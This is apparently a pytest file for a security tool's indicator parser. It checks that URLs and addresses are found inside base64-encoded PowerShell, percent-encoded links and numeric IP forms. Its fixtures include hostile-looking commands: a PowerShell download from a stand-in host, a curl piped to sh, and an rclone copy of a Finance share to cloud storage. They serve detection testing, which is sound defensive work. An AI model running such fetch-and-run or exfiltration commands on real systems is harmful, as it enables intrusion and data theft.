"""What a text says in another encoding is found, and the finding says how it was encoded."""

import base64
import json

import pytest

from shared.contracts.entity import NormalizedEntity
from shared.parsing.collection import Collection
from shared.parsing.encoded import MAX_PIECES, decoded_command
from shared.parsing.entities import parse_alert_entities
from shared.parsing.indicators import find_indicators
from shared.parsing.urls import numeric_address

SCRIPT = "Invoke-WebRequest -Uri https://cdn.stage-two.example.net/u.ps1 -OutFile $env:TEMP\\u.ps1"
ENCODED = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()


def found_in(text: str) -> dict[str, NormalizedEntity]:
    found = Collection()
    find_indicators(text, found, where="text")
    return {entity.primary_value: entity for entity in found.build().all()}


@pytest.mark.parametrize("flag", ["-e", "-enc", "-EncodedCommand", "/ec"])
def test_encoded_powershell_command_is_searched(flag: str) -> None:
    found = found_in(f"powershell -ep bypass {flag} {ENCODED}")
    assert found["https://cdn.stage-two.example.net/u.ps1"].properties["decoded_from"] == "base64"


def test_command_piped_through_base64_is_searched() -> None:
    piped = base64.b64encode(b"curl http://drop.example.net/p.sh | sh").decode()
    assert "http://drop.example.net/p.sh" in found_in(f"cmd /c echo {piped} | base64 -d | sh")


@pytest.mark.parametrize("text", ["ab" * 32, "A" * 400, "InternationalizationOfEverything", "x" * 5_000 + "=="])
def test_text_that_only_looks_like_base64_is_not_decoded(text: str) -> None:
    assert decoded_command(text) == ""


def test_pieces_of_one_text_are_bounded() -> None:
    assert decoded_command(" ".join([ENCODED] * (MAX_PIECES + 5))).count("Invoke") == MAX_PIECES


def test_command_of_a_process_shows_its_decoded_text_and_gives_its_indicators() -> None:
    process = {"Type": "process", "ProcessId": "7", "CommandLine": f"powershell -e {ENCODED}"}
    parsed = parse_alert_entities(json.dumps([process]), {})
    assert parsed.processes[0].properties["decoded_command"] == SCRIPT
    assert [url.primary_value for url in parsed.urls] == ["https://cdn.stage-two.example.net/u.ps1"]


def test_process_without_an_image_is_known_by_its_command() -> None:
    process = {"Type": "process", "ProcessId": "4242", "CommandLine": "rclone.exe copy \\\\FS-01\\Finance mega:x"}
    (found,) = parse_alert_entities(json.dumps([process]), {}).processes
    assert found.primary_value == "rclone.exe copy \\\\FS-01\\Finance mega:x"


def test_percent_encoded_url_is_a_url_and_not_a_domain() -> None:
    found = found_in("GET /login?next=https%3A%2F%2Fphish.example.net%2Fa%3Fb%3D1 200")
    assert found["https://phish.example.net/a?b=1"].properties["decoded_from"] == "percent-encoding"
    assert "2fphish.example.net" not in found


def test_percent_encoded_url_inside_a_url_is_found_beside_it() -> None:
    outer = "https://login.example.org/r?u=http%3A%2F%2Fevil.example%2Fx"
    assert {outer, "http://evil.example/x"} <= set(found_in(f"clicked {outer} today"))


@pytest.mark.parametrize(
    ("host", "address"),
    [
        ("3221226010", "192.0.2.26"),
        ("0xC6336417", "198.51.100.23"),
        ("0300.0250.0.1", "192.168.0.1"),
        ("0x7f.1", "127.0.0.1"),
        ("192.0.2.26", "192.0.2.26"),
        ("4242", ""),
        ("4294967296", ""),
        ("300.1.1.1", ""),
        ("1.2.3.4.5", ""),
        ("0x", ""),
        ("09.1.1.1", ""),
        ("a.example", ""),
    ],
)
def test_number_is_read_as_the_address_that_a_browser_would_open(host: str, address: str) -> None:
    assert numeric_address(host) == address


def test_url_with_a_hidden_address_gives_both() -> None:
    assert {"http://0xC6336417/d", "198.51.100.23"} <= set(found_in("beacon to http://0xC6336417/d and on"))


@pytest.mark.parametrize("name", ["com.example.AgentHelper", "org.sample.tool.Plugin", "net.corp.Updater"])
def test_reversed_program_name_is_not_a_domain(name: str) -> None:
    assert found_in(f"bundle {name} was loaded") == {}


def test_domain_that_begins_like_a_reversed_name_is_a_domain() -> None:
    assert set(found_in("resolved app.example.com and dev.example.org")) == {"app.example.com", "dev.example.org"}
